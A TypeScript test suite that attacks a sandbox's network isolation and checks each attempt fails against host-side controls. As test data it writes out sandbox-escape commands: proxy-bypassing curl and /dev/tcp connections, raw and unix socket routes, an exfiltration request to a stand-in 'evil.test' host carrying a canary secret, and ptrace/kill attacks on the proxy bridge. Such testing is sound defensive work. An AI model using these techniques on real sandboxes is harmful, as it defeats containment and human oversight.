// Network bypass attempts (threat catalogue NET, PROC-02/11/12) against real sandboxes with network
// enabled, as root and as the unprivileged user. Every denied attempt has an allowed control (the proxy
// route inside the sandbox, or the same probe on the host) and host-side checks: what each test server
// received, and which names the proxy looked up.
import { spawnSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import net from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureBuilt, ensureTestUser, fixtureDir, realRunBlocker, TEST_USER, type RunAs } from "../helpers/sandbox.js";
import {
  buildNetProbe,
  CLIENT,
  domain,
  lines,
  netPolicy,
  runAsync,
  runDirsIn,
  runtimeDirOf,
  sh,
  startProbeReceiver,
  startHttpServer,
  startUdpServer,
  startUnixServer,
  type CountingHttpServer,
  type NetRunResult,
} from "./net-harness.js";

const blocker = realRunBlocker();
if (blocker) console.warn(`SKIPPING the network attack suite: ${blocker}`);

const curl = (args: string) => `curl -s -m 10 -o /dev/null -w '%{http_code}/%{http_connect}' ${args}`;

/** Something already listening on the host's 127.0.0.1:3128 would make the NET-13 check meaningless. */
function hostListensOn(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const s = net.connect({ host: "127.0.0.1", port }, () => {
      s.destroy();
      resolve(true);
    });
    s.on("error", () => resolve(false));
  });
}

for (const as of ["root", "user"] as const satisfies readonly RunAs[]) {
  describe.runIf(!blocker)(`network bypass attempts as ${as}`, () => {
    let F = "";
    let probe = "";
    let s4: CountingHttpServer;
    let s6: CountingHttpServer;
    let udp: Awaited<ReturnType<typeof startUdpServer>>;
    let unixServer: Awaited<ReturnType<typeof startUnixServer>>;
    let abstractServer: Awaited<ReturnType<typeof startProbeReceiver>>;
    let dgram: Awaited<ReturnType<typeof startProbeReceiver>>;
    let r: NetRunResult = {};
    let out: Record<string, string> = {};
    let host3128 = false;
    const abstractName = `cordon-net-test-${as}-${process.pid}`;
    /** Runs the probe on the host as the same user as the sandbox (the controls). */
    const onHost = (...args: string[]) => {
      const argv = as === "root" ? [probe, ...args] : ["runuser", "-u", TEST_USER, "--", probe, ...args];
      return spawnSync(argv[0]!, argv.slice(1), { encoding: "utf8" }).stdout.trim();
    };

    beforeAll(async () => {
      ensureBuilt();
      ensureTestUser();
      F = fixtureDir(as, `net-attack-${as}`);
      probe = buildNetProbe(path.join(F, "bin"));
      s4 = await startHttpServer("127.0.0.1");
      s6 = await startHttpServer("::1");
      udp = await startUdpServer();
      unixServer = await startUnixServer(path.join(F, "host.sock"));
      abstractServer = await startProbeReceiver(probe, ["abstract-listen", abstractName]);
      dgram = await startProbeReceiver(probe, ["dgram-recv", path.join(F, "dgram.sock")]);
      host3128 = await hostListensOn(3128);
      const P = s4.port;
      const P6 = s6.port;
      const script = [
        sh("ctl_proxy", curl(`http://127.0.0.1:${P}/control`)),
        sh("ctl_proxy_v6", curl(`-p http://[::1]:${P6}/control6`)),
        // NET-01/02: direct connections that ignore the proxy
        sh("noproxy", curl(`--noproxy '*' http://127.0.0.1:${P}/noproxy`)),
        sh("tcp_direct", `${probe} tcp 127.0.0.1 ${P}`),
        sh("dev_tcp", `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${P}' && echo connected`),
        sh("tcp_external", `${probe} tcp 192.0.2.1 80`),
        sh("node_direct", `${process.execPath} ${CLIENT} direct 127.0.0.1 ${P}`),
        // NET-03: IPv6 and v4-mapped
        sh("tcp_v6", `${probe} tcp ::1 ${P6}`),
        sh("noproxy_v6", curl(`--noproxy '*' http://[::1]:${P6}/noproxy6`)),
        sh("tcp_mapped", `${probe} tcp ::ffff:127.0.0.1 ${P}`),
        // NET-04 and NET-05: UDP out, DNS inside the sandbox
        sh("udp", `${probe} udp 127.0.0.1 ${udp.port}`),
        sh("getent", "getent hosts ok.test"),
        // NET-19: proxy variables unset or overridden
        sh("env_unset", `env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u ALL_PROXY -u all_proxy ${curl(`http://127.0.0.1:${P}/unset`)}`),
        sh("no_proxy_star", `NO_PROXY='*' no_proxy='*' ${curl(`http://127.0.0.1:${P}/no-proxy-star`)}`),
        sh("empty_proxy", curl(`--proxy '' http://127.0.0.1:${P}/empty-proxy`)),
        // NET-17: raw, packet, netlink, vsock
        sh("raw", `${probe} raw`),
        sh("raw6", `${probe} raw6`),
        sh("packet", `${probe} packet`),
        sh("netlink", `${probe} netlink`),
        sh("vsock", `${probe} vsock`),
        // NET-14/15/16, PROC-11/12: unix sockets by every route, io_uring
        sh("abstract", `${probe} abstract ${abstractName}`),
        sh("unix_path", `${probe} unix ${F}/host.sock`),
        sh("unix_proxy_socket", `${probe} unix /dev/cordon-net/proxy.sock`),
        sh("dgram_pair", `${probe} dgram-pair ${F}/dgram.sock`),
        sh("iouring", `${probe} iouring`),
        // NET-05: a denied name carrying a secret is refused before any lookup; an allowed name is looked up
        sh("exfil", curl(`http://secret-c4n4ry.evil.test:${P}/exfil`)),
        sh("allowed_name", curl(`http://ok.test:${P}/allowed-name`)),
        // NET-13: CONNECT to the proxy's own port goes to the host's 127.0.0.1:3128, never back into the proxy
        sh("self_connect", curl(`-p http://127.0.0.1:3128/self`)),
        // PROC-02: ptrace and kill the bridge (control: a child of the command's own), then use the proxy again
        `${probe} attack-bridge`,
        sh("after_attack", curl(`http://127.0.0.1:${P}/after-attack`)),
      ].join("\n");
      const policy = netPolicy({ mode: "limited", domains: [domain("127.0.0.1", "allow"), domain("::1", "allow"), domain("ok.test", "allow"), domain("*.evil.test", "deny")] }, F);
      r = await runAsync(as, { policy, argv: ["bash", "-c", script], hosts: { "ok.test": ["127.0.0.1"], "secret-c4n4ry.evil.test": ["127.0.0.1"] }, logDenials: true });
      expect(r.error, r.error).toBeUndefined();
      expect(r.refused, JSON.stringify(r.refused)).toBeUndefined();
      out = lines(r.stdout);
    }, 120_000);

    afterAll(async () => {
      await s4?.close();
      await s6?.close();
      udp?.close();
      await unixServer?.close();
      abstractServer?.close();
      dgram?.close();
      if (F) rmSync(F, { recursive: true, force: true });
    });

    it("control: the proxy route works (IPv4 and IPv6), and only the proxy's requests reached the servers", () => {
      expect(r.code, r.stderr).toBe(0);
      expect(out.ctl_proxy).toBe("200/000");
      expect(out.ctl_proxy_v6).toBe("200/200");
      expect(s4.requests.map((q) => q.url).sort()).toEqual(["/after-attack", "/allowed-name", "/control"]);
      expect(s4.connections).toBe(3);
      expect(s6.requests.map((q) => q.url)).toEqual(["/control6"]);
    });

    it("NET-01/02: direct TCP to host loopback (curl --noproxy, connect(), /dev/tcp, node) and to other addresses fails", () => {
      expect(out.noproxy).toBe("000/000exit=7");
      expect(out.tcp_direct).toMatch(/^err (EACCES|ECONNREFUSED)$/);
      expect(out.dev_tcp).toMatch(/^exit=1$/);
      expect(out.tcp_external).toMatch(/^err (EACCES|ENETUNREACH)$/);
      expect(out.node_direct).toMatch(/^direct err (EACCES|ECONNREFUSED)$/);
      expect(s4.requests.some((q) => q.url === "/noproxy")).toBe(false);
      // control: the same connect() from the host reaches the server
      const before = s4.connections;
      expect(onHost("tcp", "127.0.0.1", String(s4.port))).toBe("ok");
      return new Promise<void>((resolve) => setTimeout(() => {
        expect(s4.connections).toBe(before + 1);
        resolve();
      }, 100));
    });

    it("NET-03: IPv6 loopback and v4-mapped addresses are no way around the proxy", () => {
      expect(out.tcp_v6).toMatch(/^err (EACCES|ECONNREFUSED)$/);
      expect(out.noproxy_v6).toBe("000/000exit=7");
      expect(out.tcp_mapped).toMatch(/^err (EACCES|ECONNREFUSED)$/);
      expect(s6.connections).toBe(1); // the proxied control only
    });

    it("NET-04/05: UDP reaches no host socket; there is no resolver inside the sandbox", async () => {
      expect(out.udp).toMatch(/^(ok|err \w+)$/); // sending inside the namespace may "succeed": nothing is there
      expect(out.getent).toBe("exit=2");
      expect(udp.received()).toBe(0);
      expect(onHost("udp", "127.0.0.1", String(udp.port))).toBe("ok"); // control
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(udp.received()).toBe(1);
    });

    it("NET-19: unsetting or overriding the proxy variables leaves no route", () => {
      expect(out.env_unset).toBe("000/000exit=7");
      expect(out.no_proxy_star).toBe("000/000exit=7");
      expect(out.empty_proxy).toBe("000/000exit=7");
      expect(s4.requests.filter((q) => ["/unset", "/no-proxy-star", "/empty-proxy"].includes(q.url))).toEqual([]);
    });

    it("NET-17: raw, packet, netlink and vsock sockets are refused", () => {
      for (const name of ["raw", "raw6", "packet", "netlink", "vsock"]) expect(out[name], name).toMatch(/^err (EPERM|EACCES|EAFNOSUPPORT)$/);
    });

    it("NET-14/15/16, PROC-11/12: abstract, pathname (even the proxy's own), socketpair+sendto and io_uring are refused", async () => {
      for (const name of ["abstract", "unix_path", "unix_proxy_socket", "dgram_pair", "iouring"]) expect(out[name], name).toMatch(/^err (EPERM|EACCES|ENOSYS)$/);
      expect(abstractServer.received()).toBe(0);
      expect(unixServer.accepted()).toBe(0);
      expect(dgram.received()).toBe(0);
      // controls on the host: each route works there
      expect(onHost("abstract", abstractName)).toBe("ok");
      expect(onHost("unix", path.join(F, "host.sock"))).toBe("ok");
      expect(onHost("dgram-pair", path.join(F, "dgram.sock"))).toBe("ok");
      expect(onHost("iouring")).toBe("ok");
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect([abstractServer.received(), unixServer.accepted(), dgram.received()]).toEqual([1, 1, 1]);
    });

    it("NET-05: a denied name is refused before any DNS lookup; an allowed one is looked up (control)", () => {
      expect(out.exfil).toBe("403/000");
      expect(out.allowed_name).toBe("200/000");
      expect(r.lookups).toEqual(["ok.test"]);
      expect(r.denials).toContainEqual({ kind: "network", operation: "connect", target: `secret-c4n4ry.evil.test:${s4.port}`, detail: "denied" });
    });

    it("NET-13: CONNECT to the bridge port does not loop back into the proxy", () => {
      if (host3128) console.warn("NET-13: something listens on the host's 127.0.0.1:3128; only the no-loop part is checked");
      else expect(out.self_connect).toMatch(/^000\/50[24]exit=56$/);
      expect(r.denials?.filter((d) => d.target.startsWith("127.0.0.1:3128"))).toEqual([]);
    });

    it("PROC-02: the bridge can be neither ptraced nor killed (control: the command's own child can be killed), and keeps serving", () => {
      expect(Number(out.bridges)).toBeGreaterThanOrEqual(1);
      expect(out.ptrace_bridge).toBe("err EPERM");
      expect(out.kill_bridge).toBe("err EPERM");
      expect(out.ptrace_own_child).toBe("err EPERM"); // seccomp denies ptrace altogether
      expect(out.kill_own_child).toBe("ok");
      expect(out.after_attack).toBe("200/000");
    });
  });
}

for (const as of ["root", "user"] as const satisfies readonly RunAs[]) {
  describe.runIf(!blocker)(`NET-20: the proxy socket of a ${as} run`, () => {
    it("sits in a 0700 per-run directory, is 0600, refuses other users (control: its owner connects), and is gone after the run", async () => {
      ensureBuilt();
      const { uid } = ensureTestUser();
      const F = fixtureDir(as, `net20-${as}`);
      const probe = buildNetProbe(path.join(F, "bin"));
      const release = path.join(F, "release");
      let launcherPid: number | undefined;
      const script = `while [ ! -e ${release} ]; do sleep 0.05; done`;
      const running = runAsync(as, { policy: netPolicy({ domains: [] }, F), argv: ["sh", "-c", script] }, (pid) => (launcherPid = pid));
      const runtimeDir = runtimeDirOf(as, uid);
      let dirs: string[] = [];
      // The directory appears first, the socket once the proxy listens: wait for both.
      const listening = () => dirs.length === 1 && existsSync(path.join(runtimeDir, dirs[0]!, "proxy.sock"));
      for (let i = 0; i < 400 && !listening(); i++) {
        await new Promise((resolve) => setTimeout(resolve, 25));
        if (launcherPid !== undefined) dirs = runDirsIn(runtimeDir, launcherPid);
      }
      try {
        expect(dirs).toHaveLength(1);
        const dir = path.join(runtimeDir, dirs[0]!);
        const socket = path.join(dir, "proxy.sock");
        const owner = as === "root" ? 0 : uid;
        expect(lstatSync(dir)).toMatchObject({ uid: owner });
        expect(lstatSync(dir).mode & 0o777).toBe(0o700);
        expect(lstatSync(socket).isSocket()).toBe(true);
        expect(lstatSync(socket).mode & 0o777).toBe(0o600);
        const other = as === "root" ? TEST_USER : "nobody";
        expect(spawnSync("runuser", ["-u", other, "--", probe, "unix", socket], { encoding: "utf8" }).stdout.trim()).toBe("err EACCES");
        const ownerArgv = as === "root" ? [probe, "unix", socket] : ["runuser", "-u", TEST_USER, "--", probe, "unix", socket];
        expect(spawnSync(ownerArgv[0]!, ownerArgv.slice(1), { encoding: "utf8" }).stdout.trim()).toBe("ok");
      } finally {
        mkdirSync(F, { recursive: true });
        writeFileSync(release, "");
      }
      const r = await running;
      expect(r.code, r.stderr ?? r.error).toBe(0);
      expect(existsSync(path.join(runtimeDir, dirs[0]!))).toBe(false);
      rmSync(F, { recursive: true, force: true });
    }, 60_000);
  });
}
